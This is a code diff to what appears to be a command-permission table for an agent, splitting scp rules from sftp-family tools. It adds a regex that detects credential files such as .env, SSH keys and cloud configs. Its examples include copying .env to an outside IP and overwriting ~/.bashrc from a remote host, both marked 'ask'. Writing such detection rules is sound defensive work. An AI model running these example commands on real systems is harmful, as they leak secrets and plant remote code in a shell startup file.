@@ -5,6 +5,8 @@ const curlOptions =
   '-X|--request= -d|--data= --data-raw= --data-binary= --data-urlencode= --data-ascii= --json= -F|--form= --form-string= -T|--upload-file=read -G|--get -I|--head -H|--header= -o|--output=write -O|--remote-name -J --output-dir=write --create-dirs -D|--dump-header=write -c|--cookie-jar=write -b|--cookie= -u|--user= -A|--user-agent= -e|--referer= -L|--location --location-trusted -k|--insecure -s|--silent -S|--show-error -f|--fail --fail-with-body -v|--verbose -i|--include|--show-headers -w|--write-out= -m|--max-time= --connect-timeout= --retry= --retry-delay= --retry-max-time= --retry-all-errors --retry-connrefused -x|--proxy= --noproxy= -E|--cert= --key= --cacert= --capath= --compressed -C|--continue-at= -r|--range= --resolve= --connect-to= --url= -Z|--parallel --parallel-max= -N|--no-buffer -# --progress-bar --trace=write --trace-ascii=write --stderr=write -K|--config=opaque -q|--disable --unix-socket=opaque --abstract-unix-socket=opaque --interface= --dns-servers= --http1.1 --http2 --http3 --http1.0 -0 -1 -2 -3 -4 -6 --tlsv1.2 --tlsv1.3 --ssl-reqd --oauth2-bearer= --aws-sigv4= --digest --ntlm --basic --anyauth -n|--netrc --netrc-file=read --limit-rate= -y= -Y= -z|--time-cond= --max-filesize= --max-redirs= -g|--globoff --path-as-is --raw --tr-encoding -V|--version! --help! -M|--manual! --no-progress-meter --etag-save=write --etag-compare=read --libcurl=write --hsts=write --alt-svc=write --variable= --expand-url= --expand-data= --engine=opaque -t= -Q|--quote=opaque -B -a|--append --ftp-create-dirs --mail-from= --mail-rcpt= --remove-on-error --remote-time|-R --skip-existing --no-clobber --next|-: --http2-prior-knowledge --ciphers= --post301 --post302 --post303 --proto= --proto-default= --keepalive-time= --no-keepalive --styled-output --no-sessionid -j --expect100-timeout= --request-target= --socks5= --socks5-hostname= --user-agent= --ssl-no-revoke --cert-type= --pass= --doh-url= --happy-eyeballs-timeout-ms= --service-name= --haproxy-protocol --suppress-connect-headers --xattr --rate=';
 
 /** Requests and transfers. Where a request goes and what it carries is read by the handler. */
+const secretFile = '(?:^|/)(?:\\.env(?!\\.example|\\.sample)|id_[a-z0-9]+$|\\.aws|\\.ssh|\\.kube|credentials|.*\\.pem$)';
+
 export const network: readonly ProgramTable[] = [
   {
     names: ['curl', 'curlie'],
@@ -82,15 +84,30 @@ export const network: readonly ProgramTable[] = [
     examples: [{ command: 'telnet mail.example 25', decision: 'ask', reversibility: 'irreversible' }],
   },
   {
-    names: ['scp', 'sftp', 'sshfs', 'rcp', 'pscp', 'psftp', 'pssh', 'pdsh', 'clush', 'dsh', 'mussh', 'rdist', 'unison', 'syncthing', 'rdiff-backup', 'rsnapshot'],
+    names: ['scp', 'pscp', 'rcp'],
+    family: 'remote',
+    otherOptions: 'harmless',
+    options: '-S=program -o=opaque -F=opaque -P= -i= -l= -c= -J= -D= -B -C -p -q -r -v -3 -4 -6 -A -T',
+    handler: 'container-copy',
+    effects: [
+      effect('network', 'recoverable', 'remote', 'copies files to another machine: `{operands}`', { last: '^(?:scp://|[\\w./@-]+:)' }),
+      effect('network', 'read-only', 'remote', 'copies files from another machine'),
+      effect('secret', 'irreversible', 'shared', 'sends a file that may hold secrets to another machine', { last: '^(?:scp://|[\\w./@-]+:)', operand: secretFile }),
+    ],
+    examples: [
+      { command: 'scp dist.tgz deploy@prod.acme.example:/srv/app/', decision: 'ask', blastRadius: 'production' },
+      { command: 'scp .env u@198.51.100.7:/tmp/', decision: 'ask', reversibility: 'irreversible' },
+      { command: 'scp dev@staging.acme.example:/var/log/app.log /tmp/app.log', decision: 'allow' },
+      { command: 'scp x@198.51.100.7:rc ~/.bashrc', decision: 'ask' },
+    ],
+  },
+  {
+    names: ['sftp', 'sshfs', 'psftp', 'pssh', 'pdsh', 'clush', 'dsh', 'mussh', 'rdist', 'unison', 'syncthing', 'rdiff-backup', 'rsnapshot'],
     family: 'remote',
     otherOptions: 'harmless',
     options: '-S=program -o=opaque -F=opaque -b=opaque -P= -i= -l= -c= -J= -D= -B -C -p -q -r -v -3 -4 -6 -A -T',
     operands: 'read...',
-    effects: [effect('network', 'recoverable', 'remote', 'copies files to or from another machine: `{operands}`'), effect('secret', 'irreversible', 'shared', 'sends a file that may hold secrets to another machine', { operand: '(?:^|/)(?:\\.env(?!\\.example|\\.sample)|id_[a-z0-9]+$|\\.aws|\\.ssh|\\.kube|credentials|.*\\.pem$)' })],
-    examples: [
-      { command: 'scp dist.tgz deploy@prod.acme.example:/srv/app/', decision: 'ask', blastRadius: 'production' },
-      { command: 'scp .env u@198.51.100.7:/tmp/', decision: 'ask', reversibility: 'irreversible' },
-    ],
+    effects: [effect('network', 'recoverable', 'remote', 'copies files to or from another machine: `{operands}`'), effect('secret', 'irreversible', 'shared', 'sends a file that may hold secrets to another machine', { operand: secretFile })],
+    examples: [{ command: 'sftp dev@staging.acme.example', decision: 'ask' }],
   },
 ];
